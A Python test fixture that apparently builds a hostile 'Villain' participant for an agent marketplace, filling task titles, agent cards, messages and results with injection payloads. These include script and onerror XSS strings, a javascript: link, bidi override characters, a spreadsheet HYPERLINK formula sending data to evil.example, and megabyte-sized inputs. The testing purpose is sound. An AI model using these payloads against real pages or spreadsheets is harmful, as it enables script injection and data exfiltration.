"""A party whose every text is an attack on whoever shows it: titles, documents, results, cards, messages."""

import asyncio
import base64
import json
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any, Self

from agents.chain.bindings import structs
from agents.chain.sender import Sender
from agents.chain.store import Store
from agents.chain.wallet import Wallet
from agents.fleet.session import Session
from agents.market.domain import AwardMode, TaskState, account_of, account_of_agent
from agents.market.marketplace import Marketplace, TaskTerms
from agents.market.specification import JudgeChecker, TaskSpecification
from agents.money import CREDIT

SCRIPT = "<script>window.pwned=1;alert(1)</script><img src=x onerror='window.pwned=1;alert(2)'>"
LINK = "javascript:window.pwned=1;alert(3)"
OVERRIDE = "\u202eHello\u202c\u2066\u200f"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"1")'
MEGABYTE = 1 << 20


class Villain:
    """An agent and a requester in one. Its tasks take open bids, of which only its own is made."""

    def __init__(self, session: Session, wallet: Wallet, market: Marketplace, sender: Sender) -> None:
        self._session, self._wallet, self._market, self._sender = session, wallet, market, sender

    @classmethod
    @contextmanager
    def at(cls, session: Session, wallet: Wallet, home: Path) -> Iterator[Self]:
        """One that writes through a store of its own."""
        deployment = session.deployment
        store = Store.open(home / "villain.db")
        try:
            store.pin(deployment.chain_id, deployment.genesis_hash)
            sender = Sender(session.rpc, store, deployment.chain_id)
            yield cls(session, wallet, Marketplace(session.rpc, deployment, sender), sender)
        finally:
            store.close()

    async def act(self) -> dict[str, Any]:
        """Everything that it can write is written; the ids of what it wrote."""
        agent = await self._enter()
        plain = await self._post("plain", _specification())
        large = await self._post("large", _megabyte())
        await self._do("bid", self._session.deployment.auction.bid(large, agent, CREDIT, 60))
        await self._write(agent)
        await self._deliver(large)
        return {"agent": agent, "plain": plain, "large": large}

    async def _enter(self) -> int:
        """The agent is registered under a card full of markup, with credits for both."""
        session, own = self._session, account_of(self._wallet.address)
        token = session.deployment.token
        await session.faucet.mint(token, self._wallet.address, 400 * CREDIT, intent="villain")
        await self._market.deposit(self._wallet, own, 200 * CREDIT, intent="villain:own")
        agent = await self._market.register(self._wallet, _card(), intent="villain:register")
        account = account_of_agent(agent)
        await self._market.deposit(self._wallet, account, 100 * CREDIT, intent="villain:agent")
        registry = session.deployment.registry
        await self._do("metadata", registry.set_metadata(agent, SCRIPT[:60], LINK.encode()))
        return agent

    async def _post(self, name: str, document: bytes) -> int:
        digest = await self._session.content.put(document)
        mode = AwardMode.OPEN_BID if name == "large" else AwardMode.SEALED_SECOND_PRICE
        terms = TaskTerms(
            specification=digest,
            skill="hostile",
            reserve=2 * CREDIT,
            evaluator=self._wallet.address,
            mode=mode,
            bidding_window=6,
            reveal_window=0 if mode is AwardMode.OPEN_BID else 300,
            delivery_window=600,
            review_window=600,
        )
        return await self._market.create_task(self._wallet, terms, intent=f"villain:{name}")

    async def _write(self, agent: int) -> None:
        hub, sender = self._session.deployment.messages, account_of_agent(agent)
        payload = json.dumps({"text": SCRIPT + OVERRIDE, "url": LINK, "sum": FORMULA}).encode()
        digest = await self._session.content.put(payload)
        topic = b"<b onclick=alert(4)>".ljust(32, b"\0")
        await self._do("publish", hub.publish(sender, topic, digest, b""))
        letter = structs.Letter(sender, account_of_agent(1), 0, CREDIT, bytes(32), payload)
        await self._do("letter", hub.send(letter))

    async def _deliver(self, task: int) -> None:
        """The agent, which has won, hands in a document of a megabyte."""
        session, view = self._session, self._session.feed.view
        while (found := view.tasks.get(task)) is None or found.state is TaskState.OPEN:
            await asyncio.sleep(0.1)
        digest = await session.content.put(_result())
        await self._market.submit(self._wallet, task, digest, intent="villain:result")

    async def _do(self, name: str, call: Any) -> None:
        await self._sender.send(self._wallet, call, intent=f"villain:{name}")


def _card() -> str:
    card = {
        "name": SCRIPT,
        "description": SCRIPT + OVERRIDE,
        "image": LINK,
        "external_url": LINK,
        "url": LINK,
    }
    return "data:application/json;base64," + base64.b64encode(json.dumps(card).encode()).decode()


def _specification() -> bytes:
    """One that agents read and may bid for."""
    return TaskSpecification(
        title=f"{FORMULA} {OVERRIDE}<b>x</b>"[:120],
        description=f"{SCRIPT}\n{LINK}\n{OVERRIDE}\n{FORMULA}",
        skill="hostile",
        checker=JudgeChecker(rubric=(SCRIPT, OVERRIDE)),
    ).canonical_bytes()


def _megabyte() -> bytes:
    """One that no agent can read, of the largest size that is stored."""
    head = json.dumps({"title": SCRIPT, "description": LINK, "skill": "hostile", "checker": OVERRIDE})
    filler = MEGABYTE - len(head) - len(', "more": ""}') + 1
    return f'{head[:-1]}, "more": "{"A" * filler}"}}'.encode()


def _result() -> bytes:
    filler = SCRIPT * (MEGABYTE // len(SCRIPT) - 10)
    return json.dumps({"answer": f"{FORMULA}{OVERRIDE}{LINK}", "steps": filler}).encode()
